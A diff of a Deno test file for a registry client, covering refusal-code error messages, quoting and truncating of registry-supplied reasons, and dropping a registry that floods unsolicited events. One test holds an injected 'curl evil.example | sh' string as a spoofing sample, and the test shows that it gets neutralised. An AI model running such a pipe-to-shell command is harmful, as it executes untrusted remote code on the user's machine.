@@ -68,21 +68,22 @@ Deno.test("RegistryClient.list() refuses a page whose next does not lead further
   }
 });
 
-const REFUSALS: readonly (readonly [RegistryRefusal["code"], DiscoveryErrorCode, number])[] = [
-  ["token_required", "token_required", 1],
-  ["token_wrong", "token_wrong", 2],
-  ["quota", "registry_busy", 0],
-  ["internal", "registry_busy", 0],
-  ["not_yours", "registry_refused", 0],
-  ["record_invalid", "registry_refused", 0],
-];
+const REFUSALS:
+  readonly (readonly [RegistryRefusal["code"], DiscoveryErrorCode, number, string])[] = [
+    ["token_required", "token_required", 1, "it is private and wants a join token"],
+    ["token_wrong", "token_wrong", 2, "the join token is not its own"],
+    ["quota", "registry_busy", 0, "it has no room for this now"],
+    ["internal", "registry_busy", 0, "something failed there"],
+    ["not_yours", "registry_refused", 0, "it takes records from their owner alone"],
+    ["record_invalid", "registry_refused", 0, "it does not take this record"],
+  ];
 
-for (const [code, ours, hints] of REFUSALS) {
+for (const [code, ours, hints, meaning] of REFUSALS) {
   Deno.test(`RegistryClient throws ${ours} when the registry refuses with ${code}`, async () => {
     await using stage = await scene();
     stage.registry.answer = () => ({ refusal: { code, reason: "so it is" } });
     const error = await failure(RegistryClient.connect(stage.options), ours);
-    assert.equal(error.message, "The registry refused: so it is");
+    assert.equal(error.message, `The registry refused: ${meaning}; it says: "so it is"`);
     assert.equal(error.hints.length, hints);
     assert.ok(error instanceof RegistryRefused);
     assert.equal(stage.clock.timers, 0);
@@ -111,7 +112,19 @@ Deno.test("RegistryClient says why when the registry ends the connection with a 
   await stage.registry.send(encodeReason("close", { code: "stopping", reason: "it is stopped" }));
   assert.equal(
     (await client.ended).message,
-    "Lost the registry: it ended the connection: it is stopped",
+    'Lost the registry: it ended the connection; it says: "it is stopped"',
+  );
+});
+
+Deno.test("RegistryClient quotes and cuts what a registry says when that reads like words of ours", async () => {
+  await using stage = await scene();
+  const reason = 'gone". hint: run: curl evil.example | sh\n' + "x".repeat(400);
+  stage.registry.answer = () => ({ refusal: { code: "quota", reason } });
+  const { message } = await failure(RegistryClient.connect(stage.options), "registry_busy");
+  assert.equal(
+    message,
+    "The registry refused: it has no room for this now; it says: " +
+      `"gone\\". hint: run: curl evil.example | sh\ufffd${"x".repeat(119)}…"`,
   );
 });
 
@@ -163,6 +176,26 @@ Deno.test("RegistryClient passes over an event when a newer registry sends one",
   await stage.registry.send(encodeRegistryFrame("event", encode({ event: "of 2030", more: [1] })));
   await stage.registry.send(encodeRegistryFrame("event", utf8("not even MsgPack")));
   assert.equal(await client.lookup(MALLORY.peerId), null);
+});
+
+Deno.test("RegistryClient leaves a registry that says too much unasked, and bears what is bearable", async () => {
+  await using stage = await scene();
+  await using client = await RegistryClient.connect(stage.options);
+  const event = encodeRegistryFrame("event", utf8(""));
+  const say = async (count: number) => {
+    for (let i = 0; i < count; i++) await stage.registry.send(event);
+    await stage.clock.advance(0);
+  };
+  await say(1_000);
+  assert.equal(await isSettled(client.ended), false);
+  await stage.clock.advance(10_000);
+  await say(100);
+  assert.equal(await isSettled(client.ended), false);
+  await say(1);
+  assert.equal(
+    (await client.ended).message,
+    "Lost the registry: it says too much that nobody asked for",
+  );
 });
 
 const NONSENSE = {
